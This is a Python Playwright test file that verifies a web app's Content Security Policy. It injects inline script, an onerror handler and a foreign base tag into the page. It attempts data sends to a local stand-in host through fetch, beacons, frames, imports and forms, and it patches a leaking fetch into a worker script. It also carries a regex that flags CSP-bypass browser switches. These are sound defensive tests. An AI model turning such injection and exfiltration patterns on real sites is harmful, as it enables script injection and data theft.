"""The content security policy, as browsers enforce it: what somebody could slip into the page is refused."""

import re
import socketserver
import threading
from collections.abc import Iterator
from pathlib import Path

import pytest
from playwright.sync_api import Page

from e2e.conftest import OpenSite
from e2e.servers import PlainServer
from e2e.table import BOOT
from tools.serve import StaticServer

ALLOWED = (
    r"policy breach",
    r"Content Security Policy",
    r"Trusted",
    r"request to another host",
    r"Failed to load",
    r"violates",
)

BREACHES = """
  window.breaches = [];
  addEventListener("securitypolicyviolation", ({ effectiveDirective, blockedURI }) =>
    window.breaches.push(`${effectiveDirective} ${blockedURI}`));
"""
"""An init script that keeps what the policy has refused."""

INJECTED = """
<script>document.documentElement.dataset.taken = "inline"</script>
<img src="nothing" onerror="document.documentElement.dataset.taken = 'handler'">
<base href="https://elsewhere.example/">
"""
"""What a faulty host or a hole in the page could put into its markup."""


class Elsewhere(socketserver.ThreadingTCPServer):
    """Another host, which notes what it is asked."""

    daemon_threads = True
    allow_reuse_address = True

    def __init__(self) -> None:
        """Take a free port."""
        self.asked: list[bytes] = []
        super().__init__(("127.0.0.1", 0), _Note)


class _Note(socketserver.StreamRequestHandler):
    server: Elsewhere

    def handle(self) -> None:
        """Note the first line of a request. Chromium opens connections on suspicion, over which nothing is said."""
        line = self.rfile.readline()
        if line:
            self.server.asked.append(line)


@pytest.fixture
def elsewhere() -> Iterator[Elsewhere]:
    """Run another host."""
    with Elsewhere() as server:
        thread = threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.05}, daemon=True)
        thread.start()
        yield server
        server.shutdown()
        thread.join()


def breaches(page: Page, *directives: str) -> None:
    """Wait until the policy has refused something by each of these directives."""
    page.wait_for_function(
        "(wanted) => wanted.every((directive) => window.breaches.some((breach) => breach.startsWith(directive)))",
        arg=list(directives),
        polling=50,
    )


@pytest.mark.parametrize("headers", [True, False])
def test_an_injected_inline_script_does_not_run(
    open_site: OpenSite, dist: Path, tmp_path: Path, *, headers: bool
) -> None:
    """Neither a script in the markup nor a handler nor another base; by the header, and by the page alone."""
    spoilt = tmp_path / "spoilt"
    spoilt.mkdir()
    for file in dist.iterdir():
        if file.name != "index.html" and not file.name.startswith("index.html."):
            (spoilt / file.name).symlink_to(file)
    page_text = (dist / "index.html").read_text("utf-8")
    (spoilt / "index.html").write_text(page_text.replace("<body>", f"<body>{INJECTED}"), "utf-8")
    with StaticServer(spoilt) if headers else PlainServer(spoilt) as server:
        site = open_site(None, at=server.url)
        site.watch.allow(*ALLOWED)
        site.page.add_init_script(BREACHES)
        site.page.goto(server.url)
        # The page itself works as ever.
        site.page.locator(".start-button").wait_for(timeout=BOOT)
        breaches(site.page, "script-src-elem inline", "script-src-attr inline", "base-uri")
        assert site.page.evaluate("document.documentElement.dataset.taken ?? null") is None


def test_another_host_is_not_asked_from_the_page(open_site: OpenSite, elsewhere: Elsewhere) -> None:
    """No script, data, picture, frame, worker or socket comes from there, and nothing is sent there."""
    site = open_site(None)
    page = site.page
    site.watch.allow(*ALLOWED)
    page.add_init_script(BREACHES)
    page.goto(site.url)
    page.locator(".start-button").wait_for(timeout=BOOT)
    port = elsewhere.server_address[1]
    page.evaluate(
        """async (host) => {
          const add = (name, properties) => {
            document.body.append(Object.assign(document.createElement(name), properties));
          };
          await fetch(`http://${host}/data`, { mode: "no-cors" }).catch(() => {});
          try { new WebSocket(`ws://${host}/`); } catch { /* some browsers throw */ }
          navigator.sendBeacon(`http://${host}/beacon`, "x");
          add("img", { src: `http://${host}/picture` });
          add("iframe", { src: `http://${host}/frame` });
          add("link", { rel: "stylesheet", href: `http://${host}/style` });
          await import(`http://${host}/module.js`).catch(() => {});
          const form = Object.assign(document.createElement("form"), { action: `http://${host}/form`, method: "post" });
          document.body.append(form);
          form.submit();
        }""",
        f"127.0.0.1:{port}",
    )
    breaches(page, "connect-src", "img-src", "frame-src", "style-src-elem", "script-src-elem", "form-action")
    assert elsewhere.asked == []


def test_text_becomes_neither_markup_nor_script(open_site: OpenSite) -> None:
    """The doors from text to code are closed: markup, script addresses, eval, timers, workers of other scripts."""
    site = open_site("")
    page = site.page
    site.watch.allow(*ALLOWED)
    page.locator(".start-button").wait_for(timeout=BOOT)
    refused = page.evaluate(
        """async () => {
          // What runs at once runs in the name of the debugger, which may do more.
          await new Promise((go) => setTimeout(go));
          const doors = {
            markup: () => { document.createElement("p").innerHTML = "<b>x</b>"; },
            script: () => { document.createElement("script").text = "1"; },
            address: () => { document.createElement("script").src = "b/x.js"; },
            eval: () => (0, eval)("1"),
            function: () => new Function("return 1")(),
            timer: () => setTimeout("1"),
            worker: () => new Worker("b/x.js"),
            policy: () => trustedTypes.createPolicy("another", {}),
            again: () => trustedTypes.createPolicy("filler", {}),
          };
          return Object.keys(doors).filter((name) => {
            try { doors[name](); return false; } catch { return true; }
          });
        }"""
    )
    assert refused == ["markup", "script", "address", "eval", "function", "timer", "worker", "policy", "again"]


def test_the_engines_worker_asks_no_other_host(
    open_site: OpenSite, dist: Path, elsewhere: Elsewhere, tmp_path: Path
) -> None:
    """Where the host sends headers the worker is bound as the page is: a spoilt one gets nothing from elsewhere."""
    spoilt = tmp_path / "spoilt"
    [build] = (dist / "b").iterdir()
    inner = spoilt / "b" / build.name
    (inner / "engine").mkdir(parents=True)
    for file in dist.iterdir():
        if file.name != "b":
            (spoilt / file.name).symlink_to(file)
    for file in build.iterdir():
        if file.name != "engine":
            (inner / file.name).symlink_to(file)
    for file in (build / "engine").iterdir():
        if not file.name.startswith("worker.js"):
            (inner / "engine" / file.name).symlink_to(file)
    address = f"http://127.0.0.1:{elsewhere.server_address[1]}/data"
    leak = (
        f'await fetch("{address}", {{ mode: "no-cors" }}).then(() => {{ throw new Error("leaked"); }}, () => {{}});\n'
    )
    worker = (build / "engine" / "worker.js").read_text("utf-8")
    (inner / "engine" / "worker.js").write_text(leak + worker, "utf-8")
    with StaticServer(spoilt) as server:
        site = open_site(at=server.url)
        site.watch.allow(*ALLOWED)
        site.page.locator(".start-button").wait_for(timeout=BOOT)
        site.sit_down("quick", 3)
    assert elsewhere.asked == []


def test_no_test_goes_round_the_policy() -> None:
    """Every browser of the tests enforces it."""
    here = Path(__file__)
    switch = re.compile("bypass" + r"_?csp|setBypass" + "CSP|disable-web" + "-security", re.IGNORECASE)
    files = [file for folder in (here.parent, here.parent.parent / "tools") for file in folder.rglob("*.py")]
    assert len(files) > 50
    assert [file.name for file in files if switch.search(file.read_text("utf-8"))] == []
